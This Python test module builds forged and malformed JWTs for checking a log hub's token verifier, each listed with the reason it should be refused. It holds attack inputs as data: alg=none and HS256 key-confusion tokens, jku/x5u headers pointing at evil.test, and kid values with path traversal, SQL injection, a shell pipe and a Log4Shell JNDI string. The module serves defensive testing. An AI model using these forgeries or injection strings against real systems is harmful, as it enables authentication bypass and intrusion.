"""Tokens made by hand, and a table of hostile ones: for the verifier by itself, and for a running hub.

Every one whose fault is in its header or claims is signed with the right key: what refuses it is the rule under test,
not the signature.
"""

from __future__ import annotations

import hmac
import json
from base64 import urlsafe_b64encode
from dataclasses import dataclass, field
from itertools import count
from typing import Any

import jwt
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.hazmat.primitives.serialization import (
    BestAvailableEncryption,
    Encoding,
    NoEncryption,
    PrivateFormat,
    PublicFormat,
)

from hub.identity.tokens import MAX_TOKEN_BYTES, PrivateKey, certificate_thumbprint

HOUR, DAY, YEAR = 3600, 86_400, 365 * 86_400
# More than any hub allows an issuer's clock to be ahead.
AHEAD = 600
DIGESTS = {"256": hashes.SHA256(), "384": hashes.SHA384(), "512": hashes.SHA512()}
_P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def base64url(data: bytes) -> str:
    """Encode as JOSE does, without padding."""
    return urlsafe_b64encode(data).rstrip(b"=").decode()


def raw_signature(key: PrivateKey, data: bytes, algorithm: str) -> bytes:
    """Sign as RFC 7518 section 3 and RFC 8037 say."""
    if isinstance(key, ed25519.Ed25519PrivateKey):
        return key.sign(data)
    digest = DIGESTS[algorithm[2:]]
    if isinstance(key, ec.EllipticCurvePrivateKey):
        size = (key.key_size + 7) // 8
        return b"".join(part.to_bytes(size) for part in decode_dss_signature(key.sign(data, ec.ECDSA(digest))))
    scheme = padding.PSS(padding.MGF1(digest), digest.digest_size) if algorithm[0] == "P" else padding.PKCS1v15()
    return key.sign(data, scheme, digest)


def sign(header: bytes, payload: bytes, key: PrivateKey, algorithm: str = "ES256") -> str:
    """Return a token of any bytes whose signature holds."""
    data = f"{base64url(header)}.{base64url(payload)}"
    return f"{data}.{base64url(raw_signature(key, data.encode(), algorithm))}"


def public_pem(key: PrivateKey) -> bytes:
    """Return a key's public half."""
    return key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)


def public_der(key: PrivateKey) -> bytes:
    """Return a key's public half."""
    return key.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)


def private_pem(key: Any, password: bytes = b"") -> bytes:
    """Return a key."""
    encryption = BestAvailableEncryption(password) if password else NoEncryption()
    pem: bytes = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, encryption)
    return pem


def jwk(key: PrivateKey, **fields: Any) -> dict[str, Any]:
    """Return a key's public half as in a JWKS."""
    algorithms: dict[type, Any] = {ec.EllipticCurvePrivateKey: jwt.algorithms.ECAlgorithm}
    algorithms |= {ed25519.Ed25519PrivateKey: jwt.algorithms.OKPAlgorithm}
    algorithms |= {rsa.RSAPrivateKey: jwt.algorithms.RSAAlgorithm}
    algorithm = next(value for kind, value in algorithms.items() if isinstance(key, kind))
    return {**algorithm.to_jwk(key.public_key(), as_dict=True), **fields}


@dataclass
class Forge:
    """Makes tokens for a verifier of one ES256 key, as its issuer would, and as nobody should."""

    key: ec.EllipticCurvePrivateKey
    now: int
    issuer: str = "loghub"
    audience: str = "loghub"
    tenant: str = "acme"
    other_key: ec.EllipticCurvePrivateKey = field(default_factory=lambda: ec.generate_private_key(ec.SECP256R1()))

    def __post_init__(self) -> None:
        """Make the good token that the others differ from."""
        self.header: dict[str, Any] = {"alg": "ES256", "typ": "JWT"}
        self.claims: dict[str, Any] = {
            "iss": self.issuer,
            "aud": self.audience,
            "sub": "alice",
            "tenant": self.tenant,
            "scope": "logs:read",
            "iat": self.now,
            "nbf": self.now,
            "exp": self.now + HOUR,
        }
        self.good = self.saying()
        self.head, self.payload, self.signature = self.good.split(".")

    def token(self, header: dict[str, Any], claims: dict[str, Any], key: PrivateKey | None = None) -> str:
        """Return a token of any header and claims whose signature holds."""
        return sign(json.dumps(header).encode(), json.dumps(claims).encode(), key or self.key)

    def saying(self, key: PrivateKey | None = None, **claims: Any) -> str:
        """Return a token that is good but for these claims."""
        return self.token(self.header, self.claims | claims, key)

    def lacking(self, *names: str, **claims: Any) -> str:
        """Return a token that is good but for missing claims."""
        kept = {name: value for name, value in self.claims.items() if name not in names}
        return self.token(self.header, kept | claims)

    def headed(self, key: PrivateKey | None = None, **header: Any) -> str:
        """Return a token that is good but for these header fields."""
        return self.token(self.header | header, self.claims, key)

    def paying(self, payload: bytes) -> str:
        """Return a token with any payload."""
        return sign(json.dumps(self.header).encode(), payload, self.key)

    def ending(self, text: bytes = b"", **raw: str) -> bytes:
        """Return the good claims as JSON, with this before the closing brace, and some of them as raw text."""
        payload = json.dumps(self.claims | {name: f"@{name}" for name in raw})
        for name, value in raw.items():
            payload = payload.replace(f'"@{name}"', value)
        return payload.encode().removesuffix(b"}") + text + b"}"

    def shared(self, secret: bytes, algorithm: str = "HS256", digest: str = "sha256") -> str:
        """Return a token signed with a shared secret."""
        data = f"{base64url(json.dumps(self.header | {'alg': algorithm}).encode())}.{self.payload}"
        return f"{data}.{base64url(hmac.digest(secret, data.encode(), digest))}"

    def signed_as(self, change: str) -> str:
        """Return the good token with its signature in another form, made from the right one."""
        raw = raw_signature(self.key, f"{self.head}.{self.payload}".encode(), "ES256")
        r, s = int.from_bytes(raw[:32]), int.from_bytes(raw[32:])
        zero, order = bytes(32), _P256_ORDER.to_bytes(32)
        forms = {
            "der": encode_dss_signature(r, s),
            "r zero": zero + raw[32:],
            "s zero": raw[:32] + zero,
            "r the order": order + raw[32:],
            "s the order": raw[:32] + order,
            "swapped": raw[32:] + raw[:32],
            "a byte less": raw[:-1],
            "a byte more": raw + b"\0",
            "a byte before": b"\0" + raw,
            "half": raw[:32],
            "twice": raw + raw,
        }
        return f"{self.head}.{self.payload}.{base64url(forms[change])}"

    def with_standard_alphabet(self) -> str:
        """Return a good token whose signature is in the other Base64 alphabet, and differs in it."""
        for _ in count():
            header, payload, signature = self.saying().split(".")
            if {"-", "_"} & set(signature):
                break
        return f"{header}.{payload}.{signature.replace('-', '+').replace('_', '/')}"

    def with_stray_bits(self) -> str:
        """Return a good token whose last character has a bit set that no byte of the signature takes up."""
        return self.good[:-1] + _ALPHABET[_ALPHABET.index(self.good[-1]) | 1]


def hostile(forge: Forge, certificate: bytes) -> dict[str, tuple[str, str]]:
    """Return hostile tokens by name, and words of why each is refused; `certificate` is the connection's."""
    tables = {
        "malformed": _malformed(forge),
        "signature": _signatures(forge),
        "algorithm": _algorithms(forge),
        "header": _headers(forge),
        "key": _keys(forge),
        "times": _times(forge),
        "names": _names(forge),
        "tenants": _tenants(forge),
        "bound to": _bindings(forge, certificate),
    }
    return {f"{family}: {name}": row for family, table in tables.items() for name, row in table.items()}


def twins(forge: Forge, certificate: bytes) -> dict[str, str]:
    """Return a good token of each family of hostile ones, by its name: what they would be without their fault."""
    return {
        "malformed": forge.paying(forge.ending(b',"x":{"y":[1,{"z":2}]}')),
        "signature": forge.good,
        "algorithm": forge.headed(alg="ES256"),
        "header": forge.headed(typ="at+jwt"),
        "key": forge.headed(kid="2024-01"),
        "times": forge.saying(iat=forge.now - HOUR, nbf=forge.now - HOUR, exp=forge.now + 22 * HOUR),
        "names": forge.saying(aud=["other", forge.audience], scope="openid logs:read", jti="42"),
        "tenants": forge.lacking("tenant", tenants=[forge.tenant]),
        "bound to": forge.saying(cnf={"x5t#S256": certificate_thumbprint(certificate)}),
    }


NOT_BASE64 = "not Base64 for URLs"


def _malformed(forge: Forge) -> dict[str, tuple[str, str]]:
    good, head, payload, signature = forge.good, forge.head, forge.payload, forge.signature
    claims = json.dumps(forge.claims)
    paying, ending = forge.paying, forge.ending

    def sent(header: bytes) -> str:
        return sign(header, claims.encode(), forge.key)

    return {
        "empty": ("", "not Base64"),
        "a word": ("token", "three parts"),
        "one dot": (".", "three parts"),
        "only dots": ("..", "cannot be read"),
        "two parts": (f"{head}.{payload}", "three parts"),
        "four parts": (f"{good}.{signature}", "three parts"),
        "two tokens with a dot between": (f"{good}.{good}", "three parts"),
        "two tokens end to end": (f"{good}{good}", "three parts"),
        "two tokens with a comma between": (f"{good},{good}", NOT_BASE64),
        "five parts, as encrypted ones have": (f"{head}.{signature}.{signature}.{payload}.{signature}", "three parts"),
        "a final dot": (f"{good}.", "three parts"),
        "a dot before": (f".{good}", "three parts"),
        "the JSON serialization": (json.dumps({"protected": head, "payload": payload}), NOT_BASE64),
        "not Base64": ("!!!!.????.====", NOT_BASE64),
        "percent-encoded": (good.replace(".", "%2E"), NOT_BASE64),
        "a header that is no JSON": (f"{base64url(b'alg=ES256')}.{payload}.{signature}", "cannot be read"),
        "a header that is a list": (sent(b'["ES256"]'), "cannot be read"),
        "a header that is a string": (sent(b'"ES256"'), "cannot be read"),
        "a header that is empty": (f".{payload}.{signature}", "cannot be read"),
        "a header that is not UTF-8": (sent(b'{"alg":"\xff"}'), "cannot be read"),
        "a header with NaN": (sent(b'{"alg":"ES256","x":NaN}'), "number that is none"),
        "a header nested too deep": (sent(b'{"alg":' + b"[" * 3000), "cannot be read"),
        "a header in UTF-16": (sent(json.dumps(forge.header).encode("utf-16-le")), "cannot be read"),
        "a header with a byte order mark": (sent(json.dumps(forge.header).encode("utf-8-sig")), "cannot be read"),
        "a payload that is no JSON": (paying(b"tenant=acme"), "cannot be read"),
        "a payload that is empty": (paying(b""), "cannot be read"),
        "a payload that is detached": (f"{head}..{signature}", "does not hold"),
        "a payload that is a list": (paying(json.dumps([forge.claims]).encode()), "cannot be read"),
        "a payload that is a string": (paying(json.dumps(claims).encode()), "cannot be read"),
        "a payload that is a token": (paying(good.encode()), "cannot be read"),
        "a payload that is a number": (paying(b"1"), "cannot be read"),
        "a payload that is null": (paying(b"null"), "cannot be read"),
        "a payload with more behind it": (paying(ending() * 2), "cannot be read"),
        "a payload that is not UTF-8": (paying(ending(b',"x":"\xff"')), "cannot be read"),
        "a payload nested too deep": (paying(b'{"x":' + b"[" * 5000), "cannot be read"),
        "a payload with a number of 5000 digits": (paying(ending(b',"x":' + b"9" * 5000)), "cannot be read"),
        "a payload in UTF-16": (paying(claims.encode("utf-16")), "cannot be read"),
        "a payload with a byte order mark": (paying(claims.encode("utf-8-sig")), "cannot be read"),
        "a payload with single quotes": (paying(claims.replace('"', "'").encode()), "cannot be read"),
        "a payload with a comment": (paying(ending(b"/* */")), "cannot be read"),
        "a payload with a comma too many": (paying(ending(b",")), "cannot be read"),
        "not ASCII": (good[:-1] + "é", NOT_BASE64),
        "digits of another script": (good[:-1] + "٣", NOT_BASE64),
        "too long": (forge.saying(x="a" * MAX_TOKEN_BYTES), "longer than 8192 bytes"),
        "a header too long": (forge.headed(x="a" * MAX_TOKEN_BYTES), "longer than 8192 bytes"),
        "nothing but dots": ("." * (MAX_TOKEN_BYTES + 1), "longer than 8192 bytes"),
    }


def _signatures(forge: Forge) -> dict[str, tuple[str, str]]:
    good, head, payload, signature = forge.good, forge.head, forge.payload, forge.signature
    no, strange = "does not hold", base64url(json.dumps(forge.header | {"x": 1}).encode())
    halves = ("r zero", "s zero", "r the order", "s the order", "swapped", "half", "twice")
    forms = (*halves, "der", "a byte less", "a byte more", "a byte before")
    return {
        **{f"in another form: {form}": (forge.signed_as(form), no) for form in forms},
        "none": (f"{head}.{payload}.", no),
        "another key's": (forge.saying(key=forge.other_key), no),
        "of zeros": (f"{head}.{payload}.{base64url(bytes(64))}", no),
        "another token's": (f"{head}.{forge.saying(tenant='globex').split('.')[1]}.{signature}", no),
        "of another header": (f"{strange}.{payload}.{signature}", no),
        "of the payload alone": (f"{head}.{payload}.{_alone(forge)}", no),
        "in the other Base64 alphabet": (forge.with_standard_alphabet(), NOT_BASE64),
        "with stray bits": (forge.with_stray_bits(), "stray bits"),
        "with half its padding": (f"{good}=", NOT_BASE64),
        "with its padding": (f"{good}==", NOT_BASE64),
        "with a newline behind": (f"{good}\n", NOT_BASE64),
        "with a NUL behind": (f"{good}\0", NOT_BASE64),
        "with a tab inside": (f"{good[:-9]}\t{good[-9:]}", NOT_BASE64),
        "with a space inside": (f"{good[:-9]} {good[-9:]}", NOT_BASE64),
        "and junk in the payload that Base64 readers pass over": (f"{head}.{payload}!.{signature}", NOT_BASE64),
        "and padding that was not signed": (f"{head}=.{payload}.{signature}", NOT_BASE64),
    }


def _alone(forge: Forge) -> str:
    return base64url(raw_signature(forge.key, forge.payload.encode(), "ES256"))


def _algorithms(forge: Forge) -> dict[str, tuple[str, str]]:
    no, headed, shared = "not signed with ES256", forge.headed, forge.shared
    none, key = base64url(b'{"alg":"none"}'), forge.key
    return {
        "none and no signature": (f"{none}.{forge.payload}.", no),
        "none and an empty payload": (f"{none}..", no),
        "none": (headed(alg="none"), no),
        "None": (headed(alg="None"), no),
        "NONE": (headed(alg="NONE"), no),
        "nOnE": (headed(alg="nOnE"), no),
        "none with a space": (headed(alg="none "), no),
        "empty": (headed(alg=""), no),
        "in small letters": (headed(alg="es256"), no),
        "of another curve": (headed(alg="ES384"), no),
        "of the Bitcoin curve": (headed(alg="ES256K"), no),
        "of another kind of key": (headed(alg="RS256"), no),
        "EdDSA": (headed(alg="EdDSA"), no),
        "of an encryption": (headed(alg="RSA-OAEP"), no),
        "dir": (headed(alg="dir", typ="JWT"), no),
        "null": (headed(alg=None), no),
        "a number": (headed(alg=256), no),
        "a list": (headed(alg=["ES256"]), no),
        "an object": (headed(alg={"ES256": 1}), no),
        "missing": (forge.token({"typ": "JWT"}, forge.claims), no),
        "HS256 with the public key in PEM": (shared(public_pem(key)), no),
        "HS256 with the public key in PEM, stripped": (shared(public_pem(key).strip()), no),
        "HS256 with the public key in DER": (shared(public_der(key)), no),
        "HS256 with the public key as JWK": (shared(json.dumps(jwk(key)).encode()), no),
        "HS256 with the public key's x": (shared(jwk(key)["x"].encode()), no),
        "HS384 with the public key in PEM": (shared(public_pem(key), "HS384", "sha384"), no),
        "HS512 with the public key in PEM": (shared(public_pem(key), "HS512", "sha512"), no),
        "HS256 with nothing": (shared(b""), no),
        "HS256 with 'secret'": (shared(b"secret"), no),
        "HS256 that says ES256": (shared(public_pem(key), "ES256"), "does not hold"),
        "twice": (sign(b'{"alg":"none","alg":"ES256"}', forge.ending(), key), "stands twice"),
        "twice, once escaped": (sign(b'{"alg":"ES256","\\u0061lg":"ES256"}', forge.ending(), key), "stands twice"),
    }


def _headers(forge: Forge) -> dict[str, tuple[str, str]]:
    headed = forge.headed
    return {
        "typ of an encrypted token": (headed(typ="JWE"), "another type"),
        "typ of a proof of possession": (headed(typ="dpop+jwt"), "another type"),
        "typ of an id token for logout": (headed(typ="logout+jwt"), "another type"),
        "typ of a security event": (headed(typ="secevent+jwt"), "another type"),
        "typ empty": (headed(typ=""), "another type"),
        "typ null": (headed(typ=None), "another type"),
        "typ a list": (headed(typ=["JWT"]), "another type"),
        "typ a number": (headed(typ=1), "another type"),
        "typ twice": (sign(b'{"alg":"ES256","typ":"JWT","typ":"JWT"}', forge.ending(), forge.key), "stands twice"),
        "crit": (headed(crit=["exp"]), "not taken: crit"),
        "crit with nothing in it": (headed(crit=[]), "not taken: crit"),
        "crit of a field that is there": (headed(crit=["b64"], b64=True), "not taken: crit"),
        "b64 off": (headed(b64=False), "not taken: b64"),
        "zip": (headed(zip="DEF"), "not taken: zip"),
        "enc": (headed(enc="A256GCM"), "not taken: enc"),
        "cty of a token within": (
            sign(json.dumps(forge.header | {"cty": "JWT"}).encode(), forge.good.encode(), forge.key),
            "not taken: cty",
        ),
    }


def _keys(forge: Forge) -> dict[str, tuple[str, str]]:
    other, headed = forge.other_key, forge.headed

    def stranger(**header: Any) -> str:
        return headed(key=other, **header)

    return {
        "jwk of the attacker": (stranger(jwk=jwk(other)), "not taken: jwk"),
        "jwk of the right key": (headed(jwk=jwk(forge.key)), "not taken: jwk"),
        "jku": (stranger(jku="https://evil.test/keys"), "not taken: jku"),
        "x5u": (stranger(x5u="https://evil.test/chain"), "not taken: x5u"),
        "x5c": (stranger(x5c=["MIIB"]), "not taken: x5c"),
        "x5t": (stranger(x5t="x"), "not taken: x5t"),
        "kid null": (headed(kid=None), "kid that is not a string"),
        "kid a number": (headed(kid=0), "kid that is not a string"),
        "kid a list": (headed(kid=["a"]), "kid that is not a string"),
        "kid twice": (sign(b'{"alg":"ES256","kid":"a","kid":"b"}', forge.ending(), forge.key), "stands twice"),
        **{
            f"kid {kid[:30]!r} by a stranger": (stranger(kid=kid), "does not hold")
            for kid in (
                *("../../../../dev/null", "/dev/null", "' OR 1=1 --", "a\0", "https://evil.test/k", "a/../b"),
                *("| touch x", "${jndi:ldap://evil.test/x}", "*", "", "a" * 4000),
            )
        },
        "an empty secret found at the kid": (
            sign(json.dumps({"alg": "HS256", "kid": "/dev/null"}).encode(), forge.ending(), forge.key),
            "not signed with ES256",
        ),
        "another hub's": (forge.token(forge.header, forge.claims, other), "does not hold"),
        "another tenant's": (forge.saying(key=other, tenant="globex"), "does not hold"),
        "weak RSA": (_weak_rsa(forge), "not signed with ES256"),
    }


def _weak_rsa(forge: Forge) -> str:
    weak = rsa.generate_private_key(65537, 1024)  # noqa: S505  weak on purpose
    return sign(b'{"alg":"RS256","typ":"JWT"}', forge.ending(), weak, "RS256")


def _times(forge: Forge) -> dict[str, tuple[str, str]]:
    now, saying, lacking, paying, ending = forge.now, forge.saying, forge.lacking, forge.paying, forge.ending
    number, span, longer = "'exp' that is not a number", "out of range", "lives longer"
    return {
        "exp missing": (lacking("exp"), "lacks the claim 'exp'"),
        "nbf missing": (lacking("nbf"), "lacks the claim 'nbf'"),
        "exp a string": (saying(exp=str(now + HOUR)), number),
        "exp a date": (saying(exp="2099-01-01T00:00:00Z"), number),
        "exp null": (saying(exp=None), number),
        "exp a list": (saying(exp=[now + HOUR]), number),
        "exp an object": (saying(exp={"": now + HOUR}), number),
        "exp true": (saying(exp=True), number),
        "nbf false": (saying(nbf=False), "'nbf' that is not a number"),
        "nbf a string": (saying(nbf=str(now)), "'nbf' that is not a number"),
        "iat a string": (saying(iat=str(now)), "'iat' that is not a number"),
        "iat null": (saying(iat=None), "'iat' that is not a number"),
        "exp NaN": (saying(exp=float("nan")), "number that is none"),
        "exp infinite": (saying(exp=float("inf")), "number that is none"),
        "nbf minus infinite": (saying(nbf=float("-inf")), "number that is none"),
        "exp a float too large": (paying(ending(exp="1e400")), span),
        "all three too large": (paying(ending(exp="1e400", nbf="1e400", iat="1e400")), span),
        "exp the largest integer of 64 bits": (saying(exp=2**63 - 1), span),
        "exp over 64 bits": (saying(exp=2**64 + now + HOUR), span),
        "exp in milliseconds": (saying(exp=(now + HOUR) * 1000), span),
        "exp beyond all numbers": (saying(exp=10**400), span),
        "iat beyond all numbers": (saying(iat=-(10**400)), span),
        "iat beyond all numbers, exp just over": (saying(exp=now, nbf=now - HOUR, iat=10**400), span),
        "exp negative": (saying(exp=-1), span),
        "exp a little less than zero": (saying(exp=-1e-300), span),
        "all three negative": (saying(exp=-now + HOUR, nbf=-now, iat=-now), span),
        "nbf negative": (saying(nbf=-now), span),
        "exp zero": (saying(exp=0, nbf=0, iat=0), "expired"),
        "over": (saying(exp=now - HOUR, nbf=now - 2 * HOUR, iat=now - 2 * HOUR), "expired"),
        "over for a second": (saying(exp=now - 1, nbf=now - HOUR, iat=now - HOUR), "expired"),
        "ten years": (saying(exp=now + 10 * YEAR), longer),
        "ten years, nearly over": (saying(iat=now - 10 * YEAR, nbf=now - 10 * YEAR), longer),
        "ten years by iat alone": (saying(iat=now - 10 * YEAR), longer),
        "ten years by nbf alone": (saying(nbf=now - 10 * YEAR), longer),
        "ten years, without iat": (lacking("iat", exp=now + 10 * YEAR), longer),
        "a second more than may be": (saying(exp=now + DAY + 1), longer),
        "nbf in the future": (saying(nbf=now + AHEAD, exp=now + HOUR), "not valid yet"),
        "iat in the future": (saying(iat=now + AHEAD, exp=now + HOUR), "not valid yet"),
        "iat in the far future": (saying(iat=now + 10 * YEAR), "not valid yet"),
        "exp twice": (paying(ending(b',"exp":1')), "stands twice"),
        "exp twice, once escaped": (paying(ending(b',"\\u0065xp":1')), "stands twice"),
    }


def _names(forge: Forge) -> dict[str, tuple[str, str]]:
    saying, lacking, issuer, audience = forge.saying, forge.lacking, forge.issuer, forge.audience
    return {
        "iss missing": (lacking("iss"), "lacks the claim 'iss'"),
        "iss another": (saying(iss="https://evil.test"), f"not from the issuer '{issuer}'"),
        "iss with a slash behind": (saying(iss=issuer + "/"), "not from the issuer"),
        "iss in capitals": (saying(iss=issuer.upper()), "not from the issuer"),
        "iss with a space before": (saying(iss=" " + issuer), "not from the issuer"),
        "iss a list": (saying(iss=[issuer]), "not from the issuer"),
        "iss null": (saying(iss=None), "not from the issuer"),
        "aud missing": (lacking("aud"), "lacks the claim 'aud'"),
        "aud another": (saying(aud="other"), f"not for the audience '{audience}'"),
        "aud that contains ours": (saying(aud=audience + "2"), "not for the audience"),
        "aud a list of others": (saying(aud=["other", audience + "2"]), "not for the audience"),
        "aud an empty list": (saying(aud=[]), "not for the audience"),
        "aud a list in a list": (saying(aud=[[audience]]), "not for the audience"),
        "aud an object": (saying(aud={audience: True}), "not for the audience"),
        "aud true": (saying(aud=True), "not for the audience"),
        "aud null": (saying(aud=None), "not for the audience"),
        "sub missing": (lacking("sub"), "lacks the claim 'sub'"),
        "sub empty": (saying(sub=""), "empty claim 'sub'"),
        "sub null": (saying(sub=None), "'sub' that is not a string"),
        "sub a number": (saying(sub=7), "'sub' that is not a string"),
        "sub a list": (saying(sub=["alice"]), "'sub' that is not a string"),
        "sub with a newline": (saying(sub="alice\nroot"), "'sub' with characters that cannot be printed"),
        "sub with half a character": (saying(sub="\ud800"), "'sub' with characters that cannot be printed"),
        "sub too long": (saying(sub="a" * 256), "'sub' of more than 255 characters"),
        "jti with a NUL": (saying(jti="4\0002"), "'jti' with characters that cannot be printed"),
        "jti too long": (saying(jti="4" * 256), "'jti' of more than 255 characters"),
        "jti a number": (saying(jti=7), "'jti' that is not a string"),
        "scope a list": (saying(scope=["logs:read"]), "'scope' that is not a string"),
        "scope an object": (saying(scope={"logs:read": True}), "'scope' that is not a string"),
        "scope null": (saying(scope=None), "'scope' that is not a string"),
        "scope true": (saying(scope=True), "'scope' that is not a string"),
        "filter null": (saying(filter=None), "'filter' that is not a string"),
        "filter a list": (saying(filter=["severity >= ERROR"]), "'filter' that is not a string"),
        "a name twice deep inside": (forge.paying(forge.ending(b',"x":[{"y":1,"y":2}]')), "stands twice"),
    }


def _tenants(forge: Forge) -> dict[str, tuple[str, str]]:
    saying, paying, ending, mine = forge.saying, forge.paying, forge.ending, forge.tenant
    none, names = "'tenant' that is none", "'tenants' with a name that is none"

    def several(value: Any) -> str:
        return forge.lacking("tenant", tenants=value)

    return {
        "tenant missing": (forge.lacking("tenant"), "lacks the claim 'tenant'"),
        "tenant empty": (saying(tenant=""), none),
        "tenant a star": (saying(tenant="*"), none),
        "tenant a path": (saying(tenant="../" + mine), none),
        "tenant in capitals": (saying(tenant=mine.upper()), none),
        "tenant with a newline behind": (saying(tenant=mine + "\n"), none),
        "tenant with a NUL behind": (saying(tenant=mine + "\0"), none),
        "tenant in look-alikes": (saying(tenant="\u0430cme"), none),
        "tenant too long": (saying(tenant="a" * 64), none),
        "tenant two": (saying(tenant=f"{mine} globex"), none),
        "tenant a list": (saying(tenant=[mine]), "'tenant' that is not a string"),
        "tenant an object": (saying(tenant={mine: 1}), "'tenant' that is not a string"),
        "tenant null": (saying(tenant=None), "'tenant' that is not a string"),
        "tenant twice": (paying(ending(b',"tenant":"globex"')), "stands twice"),
        "tenant twice, the same": (paying(ending(b',"tenant":"' + mine.encode() + b'"')), "stands twice"),
        "tenants empty": (several([]), "'tenants' of 0 names"),
        "tenants empty beside a tenant": (saying(tenants=[]), "'tenants' of 0 names"),
        "tenants too many": (several([f"t{number}" for number in range(101)]), "'tenants' of 101 names"),
        "tenants twice the same": (several([mine, mine]), "with a name that stands twice"),
        "tenants a string": (several(mine), "'tenants' that is not a list of strings"),
        "tenants an object": (several({mine: True}), "'tenants' that is not a list of strings"),
        "tenants a star": (several(["*"]), names),
        "tenants with an empty one": (several([mine, ""]), names),
        "tenants with a list": (several([[mine]]), "'tenants' that is not a list of strings"),
        "tenants with null": (several([mine, None]), "'tenants' that is not a list of strings"),
        "tenants null": (several(None), "'tenants' that is not a list of strings"),
        "tenants without the tenant": (saying(tenants=["globex"]), "'tenant' that is not one of its 'tenants'"),
        "tenant empty beside tenants": (saying(tenant="", tenants=[mine]), none),
    }


def _bindings(forge: Forge, certificate: bytes) -> dict[str, tuple[str, str]]:
    unbound, other = "this connection does not show", "another client certificate"
    right = certificate_thumbprint(certificate)

    def bound(value: Any) -> str:
        return forge.saying(cnf=value)

    return {
        "another certificate": (bound({"x5t#S256": certificate_thumbprint(b"other")}), other),
        "a thumbprint with padding": (bound({"x5t#S256": right + "="}), other),
        "a thumbprint in hexadecimal": (bound({"x5t#S256": right.encode().hex()}), other),
        "a thumbprint cut short": (bound({"x5t#S256": right[:-1]}), other),
        "a thumbprint that no bytes stand for": (bound({"x5t#S256": "\ud800"}), unbound),
        "a thumbprint by SHA-1": (bound({"x5t": right}), unbound),
        "a thumbprint that is a list": (bound({"x5t#S256": [right]}), unbound),
        "a thumbprint that is empty": (bound({"x5t#S256": ""}), other),
        "a thumbprint outside of an object": (bound(right), unbound),
        "a key": (bound({"jkt": "x"}), unbound),
        "nothing": (bound({}), unbound),
        "null": (bound(None), unbound),
    }
